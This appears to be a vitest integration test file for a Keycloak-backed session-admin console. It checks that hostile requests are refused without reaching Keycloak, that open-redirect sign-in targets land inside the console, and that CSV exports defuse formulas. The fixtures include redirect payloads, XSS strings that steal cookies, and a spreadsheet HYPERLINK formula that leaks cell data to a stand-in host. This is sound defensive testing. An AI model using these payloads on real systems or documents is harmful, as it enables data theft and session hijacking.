import dc from 'node:diagnostics_channel';
import { readFileSync } from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import { afterAll, beforeAll, describe, expect, inject, it, vi } from 'vitest';
import request from 'supertest';
import type { Agent, Response } from 'supertest';
import { z } from 'zod';
import { demoRealm } from '@session-desk/keycloak-local';
import { apiErrorSchema, auditListResponseSchema, realmActionBodySchema, type ErrorCode } from '@session-desk/contracts';
import { createTestApp } from '../testing/test-app.js';
import { signInThroughKeycloak } from '../testing/keycloak-browser.js';
import { findUserId, userSessionIds } from '../testing/keycloak-admin.js';
import { loginEndUser, refreshWorks, reservedEndUser, sessionIdOf } from '../testing/end-user-sessions.js';

/*
 * The hostile-input corpus (hostile-input.corpus.json, beside this file): every entry must answer
 * its exact 4xx status with a JSON `{error, message}` body (without hanging: bounded by the test
 * timeout, not a stopwatch), and reach nothing in Keycloak. "Nothing reached Keycloak" is proven four ways for each request:
 *   - a spy on KeycloakGateway.admin (the only Admin API path),
 *   - a spy on globalThis.fetch (Admin API client, openid-client and the OIDC logout all use it),
 *   - Node's own diagnostics channels for real traffic: every undici request, every node:http
 *     client request and every TCP connection toward the Keycloak port, wherever it comes from,
 *   - and afterwards a real end-user session the corpus aimed at still exists and still refreshes.
 * A counting TCP proxy in front of Keycloak does not work here: the test Keycloak pins its issuer
 * to http://localhost:8180 (--hostname), so discovery through another port fails the issuer check,
 * and the discovered endpoints would point past the proxy anyway.
 */

const realm = demoRealm.realm;
const keycloakUrl = new URL(inject('keycloakUrl'));
const keycloakPort = Number(keycloakUrl.port || (keycloakUrl.protocol === 'https:' ? 443 : 80));

const entrySchema = z
  .object({
    family: z.string().min(1),
    name: z.string().min(1),
    method: z.enum(['GET', 'POST', 'DELETE', 'PUT', 'PATCH', 'OPTIONS']),
    path: z.string().regex(/^\/(api|auth)(\/|\?|$)/),
    as: z.enum(['admin', 'anonymous', 'pending-login']).default('admin'),
    headers: z.record(z.string(), z.string().nullable()).optional(),
    body: z.json().optional(),
    rawBody: z.string().optional(),
    rawBodyBase64: z.base64().optional(),
    contentType: z.string().optional(),
    expect: z.union([z.number().int().min(400).max(499), z.array(z.number().int().min(400).max(499)).min(1)]),
    /**
     * An identifier Keycloak can produce (a federated user id with `/`, a leading hyphen, any
     * script): the BFF must pass it on, percent-encoded as one path segment, and answer what
     * Keycloak answers. The exact path (as on the wire) at which the request must reach Keycloak.
     */
    keycloak: z.string().regex(/^\/admin\/realms\/[^/]+\/users\/[^/]+$/).optional(),
  })
  .strict()
  .refine((entry) => [entry.body, entry.rawBody, entry.rawBodyBase64].filter((body) => body !== undefined).length <= 1, 'give one kind of body');
type Entry = z.infer<typeof entrySchema> & { hasBody: boolean };

const corpusFile = z.object({ about: z.array(z.string()), entries: z.array(z.record(z.string(), z.unknown())).min(200) });
const rawCorpus = corpusFile.parse(JSON.parse(readFileSync(new URL('./hostile-input.corpus.json', import.meta.url), 'utf8')));
const corpus: Entry[] = rawCorpus.entries.map((raw) => ({ ...entrySchema.parse(raw), hasBody: Object.hasOwn(raw, 'body') }));

/** The codes an error answer of each status may carry. */
const codesFor: Record<number, readonly ErrorCode[]> = {
  400: ['bad_request', 'invalid_utf8'],
  401: ['unauthenticated'],
  403: ['forbidden', 'csrf_rejected'],
  404: ['not_found'],
  413: ['payload_too_large'],
  415: ['unsupported_media_type'],
};

/** Expands `{{name}}` placeholders, then `{{repeat N TEXT}}` (`\}` is a literal `}` inside TEXT). */
function expand(text: string, vars: Readonly<Record<string, string>>): string {
  const withVars = text.replace(/\{\{(\w+)\}\}/g, (_match, name: string) => {
    const value = vars[name];
    if (value === undefined) throw new Error(`unknown placeholder {{${name}}}`);
    return value;
  });
  const expanded = withVars.replace(/\{\{repeat (\d+) ((?:\\\}|[^}])+)\}\}/g, (_match, count: string, unit: string) =>
    unit.replaceAll('\\}', '}').repeat(Number(count)),
  );
  if (expanded.includes('{{repeat ')) throw new Error(`unexpanded placeholder in ${text.slice(0, 80)}`);
  return expanded;
}

/** Where Keycloak-bound traffic was seen, by the entry running at that moment. */
class TrafficWatch {
  current: string | undefined;
  readonly seen: Array<{ during: string; what: string }> = [];
  #unsubscribe: Array<() => void> = [];

  start(): void {
    const onUndici = (message: unknown) => {
      const { request: req } = message as { request: { origin: string; path: string } };
      this.#record(`undici ${req.origin}${req.path}`);
    };
    const onHttp = (message: unknown) => {
      const { request: req } = message as { request: http.ClientRequest };
      if (String(req.getHeader('host') ?? '').endsWith(`:${keycloakPort}`)) this.#record(`http ${req.method} ${req.host}${req.path}`);
    };
    const onSocket = (message: unknown) => {
      const { socket } = message as { socket: net.Socket };
      const during = this.current ?? 'between entries';
      socket.once('connect', () => {
        if (socket.remotePort === keycloakPort) this.seen.push({ during, what: `tcp connection to port ${keycloakPort}` });
      });
    };
    const channels: Array<[string, (message: unknown) => void]> = [
      ['undici:request:create', onUndici],
      ['http.client.request.start', onHttp],
      ['net.client.socket', onSocket],
    ];
    for (const [name, listener] of channels) {
      dc.subscribe(name, listener);
      this.#unsubscribe.push(() => dc.unsubscribe(name, listener));
    }
  }

  stop(): void {
    for (const unsubscribe of this.#unsubscribe) unsubscribe();
    this.#unsubscribe = [];
  }

  during(name: string): Array<{ during: string; what: string }> {
    return this.seen.filter((event) => event.during === name);
  }

  #record(what: string): void {
    this.seen.push({ during: this.current ?? 'between entries', what });
  }
}

function parseOrUndefined(text: string): unknown {
  try {
    return JSON.parse(text);
  } catch {
    return undefined;
  }
}

/** Refuses, before sending, an entry that would really act on the demo realm or sign the admin out. */
function assertHarmless(entry: Entry, path: string, body: unknown, headers: Record<string, string>): void {
  const csrfIntact = headers['X-CSRF'] === '1' && headers.Origin === undefined && headers['Sec-Fetch-Site'] === undefined;
  if (/^\/api\/realms\/demo\/(logout-all|revoke-tokens)$/.test(path) && entry.as === 'admin' && csrfIntact) {
    const valid = realmActionBodySchema.safeParse(body);
    if (valid.success && valid.data.confirmRealm === realm) throw new Error(`"${entry.name}" would really ${path.split('/').at(-1)} the demo realm`);
  }
  if (path.startsWith('/auth/logout') && entry.as === 'admin' && csrfIntact) throw new Error(`"${entry.name}" would sign the admin out`);
}

describe('hostile input: every corpus entry answers a deliberate 4xx JSON error; refused ones reach nothing in Keycloak, accepted ids reach it encoded', () => {
  const test = createTestApp();
  const admin = demoRealm.operators.find((operator) => operator.role === 'admin')!;
  const wire: string[] = [];
  /** Names of the entries sent so far, so the summary check can send the rest itself, whatever its place. */
  const sent = new Set<string>();
  /** The window in which the instrument check makes Keycloak traffic on purpose. */
  const LEGITIMATE = 'legitimate request';
  const server = http.createServer((req, res) => {
    wire.push(req.url ?? '');
    test.app(req, res);
  });
  const watch = new TrafficWatch();
  const agents = new Map<'admin' | 'anonymous', Agent>();
  const vars: Record<string, string> = {};
  let canary: { username: string; userId: string; sessionId: string; refreshToken: string };
  const adminSpy = vi.spyOn(test.keycloak, 'admin');
  const fetchSpy = vi.spyOn(globalThis, 'fetch');

  beforeAll(async () => {
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const signedIn = request.agent(server);
    await signInThroughKeycloak(signedIn, admin.username, admin.password);
    agents.set('admin', signedIn);
    agents.set('anonymous', request.agent(server));

    const username = reservedEndUser(12);
    const tokens = await loginEndUser(username, 'demo-portal');
    canary = { username, userId: await findUserId(realm, username), sessionId: sessionIdOf(tokens), refreshToken: tokens.refresh_token };
    expect(await userSessionIds(realm, canary.userId)).toContain(canary.sessionId);
    vars.canarySessionId = canary.sessionId;
    vars.canaryUserId = canary.userId;
    watch.start();
  });

  afterAll(async () => {
    watch.stop();
    adminSpy.mockRestore();
    fetchSpy.mockRestore();
    await agents.get('admin')?.post('/auth/logout').set('X-CSRF', '1');
    server.closeAllConnections();
    await new Promise<void>((resolve) => server.close(() => resolve()));
  });

  it('has at least 200 entries with unique names', () => {
    expect(corpus.length).toBeGreaterThanOrEqual(200);
    expect(new Set(corpus.map((entry) => entry.name)).size).toBe(corpus.length);
  });

  async function agentFor(entry: Entry): Promise<Agent> {
    if (entry.as !== 'pending-login') return agents.get(entry.as)!;
    // A fresh browser that has just been sent to Keycloak's login page.
    // Starting a sign-in asks Keycloak whether it answers (its discovery document): that is the login's, not the entry's.
    const browser = request.agent(server);
    watch.current = LEGITIMATE;
    const login = await browser.get('/auth/login');
    await new Promise((resolve) => setImmediate(resolve));
    watch.current = undefined;
    expect(login.status).toBe(302);
    return browser;
  }

  /** Sends `entry`; `fetchCallsBefore` is the fetch spy's count once its agent was ready (a pending login asks Keycloak itself). */
  async function send(entry: Entry): Promise<{ response: Response; path: string; fetchCallsBefore: number }> {
    const path = expand(entry.path, vars);
    const headers: Record<string, string> = { 'X-CSRF': '1' };
    for (const [name, value] of Object.entries(entry.headers ?? {})) {
      if (value === null) delete headers[name];
      else headers[name] = expand(value, vars);
    }
    let payload: Buffer | undefined;
    let contentType = entry.contentType;
    if (entry.rawBody !== undefined) payload = Buffer.from(expand(entry.rawBody, vars), 'utf8');
    else if (entry.rawBodyBase64 !== undefined) payload = Buffer.from(entry.rawBodyBase64, 'base64');
    else if (entry.hasBody) {
      payload = Buffer.from(expand(JSON.stringify(entry.body), vars), 'utf8');
      contentType ??= 'application/json';
    }
    if (contentType) headers['Content-Type'] = contentType;
    assertHarmless(entry, path, payload === undefined ? undefined : parseOrUndefined(payload.toString('utf8')), headers);

    const agent = await agentFor(entry);
    const fetchCallsBefore = fetchSpy.mock.calls.length;
    const method = entry.method.toLowerCase() as Lowercase<Entry['method']>;
    const call = agent[method](path).set(headers);
    sent.add(entry.name);
    watch.current = entry.name;
    wire.length = 0;
    try {
      // A Buffer with an identity serializer goes on the wire byte for byte, whatever the Content-Type.
      return { response: await (payload === undefined ? call : call.serialize((data: unknown) => data as string).send(payload)), path, fetchCallsBefore };
    } finally {
      // Let anything the request set off (sockets connecting, unawaited calls) show up under its name.
      await new Promise((resolve) => setImmediate(resolve));
      watch.current = undefined;
    }
  }

  /** Every Keycloak-bound request of an accepted identifier stays below the realm's Admin API and holds no dot segment. */
  function expectEncodedOnly(entry: Entry & { keycloak: string }): void {
    const requests = watch
      .during(entry.name)
      .flatMap((event) => (event.what.startsWith('undici ') ? [new URL(event.what.slice('undici '.length))] : []));
    const paths = requests.map((url) => url.pathname);
    expect(paths, 'the id reached Keycloak, encoded as one path segment').toContain(entry.keycloak);
    for (const url of requests) {
      expect(url.origin).toBe(keycloakUrl.origin);
      // Below the realm's Admin API (the realm itself: its not-before), or its token endpoint.
      const allowed =
        url.pathname.startsWith(`/admin/realms/${realm}/`) ||
        url.pathname === `/admin/realms/${realm}` ||
        url.pathname === `/realms/${realm}/protocol/openid-connect/token`;
      expect(allowed, url.pathname).toBe(true);
      expect(url.pathname.split('/').filter((segment) => segment === '.' || segment === '..'), url.pathname).toEqual([]);
    }
  }

  it.each(corpus.map((entry) => [`${entry.family}: ${entry.name}`, entry] as const))('%s', async (_label, entry) => {
    const adminCalls = adminSpy.mock.calls.length;

    const { response, path, fetchCallsBefore } = await send(entry);

    expect(wire, 'the request went on the wire exactly as written').toEqual([path]);
    const expected = Array.isArray(entry.expect) ? entry.expect : [entry.expect];
    expect(expected, `status ${response.status}: ${response.text.slice(0, 300)}`).toContain(response.status);
    expect(response.headers['content-type']).toMatch(/^application\/json\b/);
    const body = apiErrorSchema.parse(response.body);
    expect(codesFor[response.status]).toContain(body.error);
    expect(body.message.length).toBeGreaterThan(0);
    expect(body.message).not.toMatch(/\n\s+at /);

    if (entry.keycloak !== undefined) {
      expectEncodedOnly({ ...entry, keycloak: entry.keycloak });
      return;
    }
    expect(adminSpy.mock.calls.length - adminCalls, 'Admin API calls').toBe(0);
    expect(fetchSpy.mock.calls.slice(fetchCallsBefore).map(([url]) => String(url)), 'fetch calls').toEqual([]);
    expect(watch.during(entry.name), 'outbound traffic').toEqual([]);
  });

  it('reached nothing in Keycloak: no traffic but the accepted ids, the canary session still lives, the trail is empty', async () => {
    // Independent of this test's place in the run: send whatever the corpus has not sent yet.
    for (const entry of corpus) {
      if (sent.has(entry.name)) continue;
      const { response } = await send(entry);
      expect(Array.isArray(entry.expect) ? entry.expect : [entry.expect], `${entry.name}: ${response.status}`).toContain(response.status);
    }
    expect(sent.size).toBe(corpus.length);
    const accepted = new Set(corpus.flatMap((entry) => (entry.keycloak === undefined ? [] : [entry.name])));
    expect(accepted.size).toBeGreaterThan(0);
    expect(
      watch.seen.filter((event) => event.during !== LEGITIMATE && !accepted.has(event.during)),
      'Keycloak-bound traffic while the refused entries ran',
    ).toEqual([]);
    expect(await userSessionIds(realm, canary.userId)).toContain(canary.sessionId);
    expect(await refreshWorks('demo-portal', canary.refreshToken)).toBe(true);
    // Every action is recorded before Keycloak is asked: no attempt in the trail means none was made. The
    // only records are refusals: of the canary's session named under a user it does not belong to (each
    // naming the canary's real owner), and of realm-wide actions and jobs whose realm name was typed wrong.
    const trail = await agents.get('admin')!.get('/api/audit').query({ limit: 500 });
    expect(trail.status).toBe(200);
    const records = auditListResponseSchema.parse(trail.body).items;
    expect(records.filter((record) => record.outcome !== 'refused')).toEqual([]);
    for (const record of records) {
      if (record.action === 'session.end') expect(record).toMatchObject({ sessionId: canary.sessionId, targetUser: { id: canary.userId } });
      else expect(record).toMatchObject({ action: expect.stringMatching(/^(realm\.|bulk\.start$)/), error: expect.stringMatching(/type the realm's name/i) });
    }
  }, 120_000);

  it('would have seen traffic: the instruments count a legitimate request and a raw connection', async () => {
    const adminCalls = adminSpy.mock.calls.length;
    const fetchCalls = fetchSpy.mock.calls.length;
    watch.current = LEGITIMATE;
    const response = await agents.get('admin')!.get(`/api/realms/${realm}/users`).query({ q: canary.username });
    expect(response.status).toBe(200);
    const socket = net.connect(keycloakPort, keycloakUrl.hostname);
    await new Promise((resolve, reject) => socket.once('connect', resolve).once('error', reject));
    socket.destroy();
    watch.current = undefined;
    expect(adminSpy.mock.calls.length).toBeGreaterThan(adminCalls);
    expect(fetchSpy.mock.calls.length).toBeGreaterThan(fetchCalls);
    const seen = watch.during(LEGITIMATE).map((event) => event.what);
    expect(seen.some((what) => what.startsWith(`undici ${keycloakUrl.origin}/admin/realms/${realm}/users`))).toBe(true);
    expect(seen).toContain(`tcp connection to port ${keycloakPort}`);
  });
});

describe('hostile returnTo: sign-in always lands inside the console', () => {
  const test = createTestApp();
  // The auditor, not desk-admin: sign-in.integration.test.ts counts desk-admin's new Keycloak sessions.
  const operator = demoRealm.operators.find((candidate) => candidate.role === 'auditor')!;
  const hostile = [
    'https://evil.example',
    '//evil.example',
    '/\\evil.example',
    'javascript:alert(1)',
    '%2F%2Fevil.example',
    '/%2F%2Fevil.example',
    '%5C%5Cevil.example',
    'java%0Ascript:alert(1)',
    '/%09/evil.example',
    '/%5Cevil.example',
    '/%252F%252Fevil.example',
    '/api/realms/demo/logout-all',
  ];

  async function landing(returnTo: string): Promise<string> {
    const browser = test.agent();
    const { landedOn } = await signInThroughKeycloak(browser, operator.username, operator.password, { returnTo });
    // End the Keycloak session again so the sign-ins leave nothing behind.
    const out = await browser.post('/auth/logout').set('X-CSRF', '1');
    expect(out.status).toBe(200);
    return landedOn;
  }

  it.each(hostile)('returnTo=%s lands on /', async (returnTo) => {
    expect(await landing(returnTo)).toBe('/');
  });

  it('a same-origin returnTo is kept (the check above can fail)', async () => {
    expect(await landing('/sessions?q=ab#top')).toBe('/sessions?q=ab#top');
  });
});

describe('reasons are stored as typed, and defused only in the CSV export', () => {
  const test = createTestApp();
  const admin = demoRealm.operators.find((operator) => operator.role === 'admin')!;
  const reason =
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open") <img src=x onerror=alert(1)><script>alert(document.cookie)</script> ' +
    'שלום עולם مرحبا \u200Dgnp.exe\u200B; "quoted", +1 @SUM(1)';

  it('ends a real session with a hostile reason; the trail shows it byte for byte; the CSV neutralises the formula', async () => {
    const browser = test.agent();
    await signInThroughKeycloak(browser, admin.username, admin.password);
    const username = reservedEndUser(13);
    const userId = await findUserId(realm, username);
    const sessionId = sessionIdOf(await loginEndUser(username, 'demo-portal'));

    const ended = await browser.delete(`/api/realms/${realm}/sessions/${sessionId}`).set('X-CSRF', '1').send({ reason, userId });
    expect(ended.status, ended.text).toBe(200);
    expect(await userSessionIds(realm, userId)).not.toContain(sessionId);

    const trail = await browser.get('/api/audit').query({ user: username, action: 'session.end' });
    expect(trail.status).toBe(200);
    expect(trail.headers['content-type']).toMatch(/^application\/json\b/);
    const record = auditListResponseSchema.parse(trail.body).items.find((item) => item.sessionId === sessionId);
    expect(record?.outcome).toBe('succeeded');
    expect(Buffer.from(record?.reason ?? '', 'utf8').equals(Buffer.from(reason, 'utf8'))).toBe(true);

    const jsonl = await browser.get('/api/audit/export').query({ format: 'jsonl', user: username }).buffer(true);
    expect(jsonl.status).toBe(200);
    const lines = jsonl.text.trim().split('\n').map((line) => JSON.parse(line) as { sessionId: string | null; reason: string | null });
    expect(lines.filter((line) => line.sessionId === sessionId).map((line) => line.reason)).toContain(reason);

    const csv = await browser.get('/api/audit/export').query({ format: 'csv', user: username }).buffer(true);
    expect(csv.status).toBe(200);
    expect(csv.headers['content-type']).toMatch(/^text\/csv\b/);
    const rows = csv.text.split('\r\n').filter((line) => line.includes(sessionId));
    expect(rows.length).toBeGreaterThan(0);
    // Every trigger that could start a cell is defused: the leading `=`, and `+1`/`@SUM` after the `,` separator.
    const defused = `"'${reason.replace(', +1 @SUM', ", '+1 @SUM").replaceAll('"', '""')}"`;
    for (const row of rows) {
      expect(row).toContain(`,${defused},`);
      expect(row).not.toContain(',"=HYPERLINK');
      expect(row).not.toContain(',=HYPERLINK');
    }
    await browser.post('/auth/logout').set('X-CSRF', '1');
  });
});
